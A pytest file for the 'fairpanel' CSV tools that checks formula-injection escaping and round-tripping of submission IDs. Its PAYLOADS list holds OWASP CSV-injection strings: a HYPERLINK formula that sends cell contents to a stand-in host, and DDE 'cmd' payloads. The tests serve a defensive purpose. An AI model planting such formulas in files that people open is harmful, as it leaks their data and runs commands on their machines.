"""io._cells: formula-like text cells are written as text (OWASP) and read back as they were."""

from __future__ import annotations

import pandas as pd
import pytest
from typer.testing import CliRunner

from fairpanel.cli import app
from fairpanel.io import read_table, write_frame
from fairpanel.io._cells import FORMULA_STARTS, escape_formulas, unescape_formulas

#: Payloads from OWASP's CSV-injection page and the adversarial trial of issue 15.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_character_owasp_names_is_escaped():
    # OWASP, "CSV Injection": =, +, -, @, Tab (0x09), Carriage return (0x0D)
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_text_cells_get_an_apostrophe_and_numbers_do_not():
    frame = pd.DataFrame(
        {"submission_id": [*PAYLOADS, "P01", "O'Brien"], "score": [-1.5] * 8, "n": [-3] * 8}
    )
    out = escape_formulas(frame)
    assert out["submission_id"].tolist() == [
        *("'" + p for p in PAYLOADS),
        "P01",
        "O'Brien",
    ]
    pd.testing.assert_frame_equal(out[["score", "n"]], frame[["score", "n"]])
    assert frame["submission_id"].iloc[0] == PAYLOADS[0]  # the input is not changed


def test_only_the_apostrophe_the_writer_adds_is_removed():
    cells = pd.Series(["'=1", "'-2", "''=3", "'text'", "it's", "'", "='"])
    assert unescape_formulas(cells).tolist() == ["=1", "-2", "''=3", "'text'", "it's", "'", "='"]


@pytest.mark.parametrize("raw", [False, True])
def test_ids_round_trip_through_fairpanels_own_files(tmp_path, raw):
    ids = ["=HYPERLINK(1)", "+cmd", "@SUM(A1)", "-7", "P05"]
    frame = pd.DataFrame({"submission_id": ids, "calibrated_score": [-0.5, 1, 2, 3, 4]})
    path = write_frame(tmp_path / "scores.csv", frame, raw=raw)
    text = path.read_text(encoding="utf-8").splitlines()
    assert text[1].startswith("'=" if not raw else "=")
    assert text[4] == ("'-7,3.0" if not raw else "-7,3.0")
    back = read_table(path, text_columns=["submission_id"])
    assert back["submission_id"].tolist() == ids
    assert back["calibrated_score"].tolist() == [-0.5, 1, 2, 3, 4]


def test_score_and_allocate_escape_ids_and_allocate_reads_them_back(tmp_path):
    reviews = tmp_path / "reviews.csv"
    rows = ["submission_id,reviewer_id,score"]
    ids = ["=HYPERLINK(1)", "+cmd", "@SUM(A1)", "P4"]
    rows += [f'"{sid}",R{r},{(i + r) % 5 + 1}' for i, sid in enumerate(ids) for r in range(3)]
    reviews.write_text("\n".join(rows) + "\n", encoding="utf-8")
    scores, alloc = tmp_path / "scores.csv", tmp_path / "alloc.csv"
    runner = CliRunner()
    score = ["score", "--reviews", str(reviews), "--scale-min", "1", "--scale-max", "5"]
    assert runner.invoke(app, [*score, "--method", "eb", "--out", str(scores)]).exit_code == 0
    assert "\n'=HYPERLINK(1)," in scores.read_text(encoding="utf-8")
    allocate = ["allocate", "--scores", str(scores), "--strategy", "rank", "--capacity", "2"]
    result = runner.invoke(app, [*allocate, "--seed", "1", "--out", str(alloc)])
    assert result.exit_code == 0, result.output
    table = read_table(alloc)
    assert sorted(table["submission_id"]) == sorted(ids)
    assert "\n'+cmd," in alloc.read_text(encoding="utf-8")
    raw = runner.invoke(app, [*allocate, "--seed", "1", "--out", str(alloc), "--raw-csv"])
    assert raw.exit_code == 0
    assert "\n+cmd," in alloc.read_text(encoding="utf-8")
